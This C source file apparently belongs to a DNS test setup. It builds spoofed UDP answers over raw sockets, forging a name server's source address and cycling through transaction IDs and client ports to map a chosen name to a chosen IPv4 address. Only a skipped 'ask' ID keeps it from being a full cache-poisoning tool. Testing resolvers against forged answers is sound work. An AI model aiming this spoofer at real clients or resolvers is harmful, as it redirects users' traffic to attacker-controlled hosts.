// SPDX-License-Identifier: GPL-2.0-only
/*
 * guess COUNT SERVER CLIENT NAME ADDRESS: so many answers of a name server that never sent them, to a question for NAME
 * that it was asked or not: with ids and ports of the client as they come, no two the same. The id that `ask` uses is
 * left out, for who guesses right is the server. IPv4, type A.
 */
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define ID_ASKED   0x1111
#define PORT_FIRST 32768 /* of what Linux chooses by itself */
#define PORTS      28232

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t data[600]; /* starts with the id */
};

static uint8_t *put(uint8_t *at, const void *data, size_t len)
{
	return mempcpy(at, data, len);
}

/* An answer with one record, whose owner is the question's name. */
static size_t answer(uint8_t *into, const char *name, const char *address)
{
	const uint8_t head[12] = { 0, 0, 0x81, 0x80, 0, 1, 0, 1 };
	const uint8_t tail[] = { 0, 0, 1, 0, 1, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4 };
	uint8_t *at = put(into, head, sizeof(head));
	struct in_addr in;

	if (strlen(name) > 253 || inet_pton(AF_INET, address, &in) != 1)
		errx(2, "%s, %s: too long, or no address", name, address);
	while (*name) {
		size_t label = strcspn(name, ".");

		*at++ = label;
		at = put(at, name, label);
		name += label + (name[label] == '.');
	}
	at = put(at, tail, sizeof(tail));
	at = put(at, &in, sizeof(in));
	return at - into;
}

/* Without a checksum, which UDP over IPv4 may do without. */
static size_t make_packet(struct packet *p, char **argv)
{
	size_t len = answer(p->data, argv[4], argv[5]) + sizeof(p->udp);

	p->udp.source = htons(53);
	p->udp.len = htons(len);
	p->ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP };
	len += sizeof(p->ip);
	if (inet_pton(AF_INET, argv[2], &p->ip.saddr) != 1 || inet_pton(AF_INET, argv[3], &p->ip.daddr) != 1)
		errx(2, "%s, %s: no addresses", argv[2], argv[3]);
	return len;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	struct packet packet;
	unsigned long count, sent = 0;
	size_t len;

	if (argc != 6)
		errx(2, "usage: guess COUNT SERVER CLIENT NAME ADDRESS");
	if (fd < 0)
		err(1, "socket");
	count = strtoul(argv[1], NULL, 10);
	len = make_packet(&packet, argv);
	to.sin_addr.s_addr = packet.ip.daddr;
	for (unsigned long i = 0; i < count; i++) {
		uint16_t id = i * 40503 + i / PORTS;

		id = htons(id == ID_ASKED ? 0 : id);
		packet.udp.dest = htons(PORT_FIRST + i % PORTS);
		memcpy(packet.data, &id, sizeof(id));
		sent += sendto(fd, &packet, len, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)len;
	}
	printf("sent %lu\n", sent);
	return 0;
}
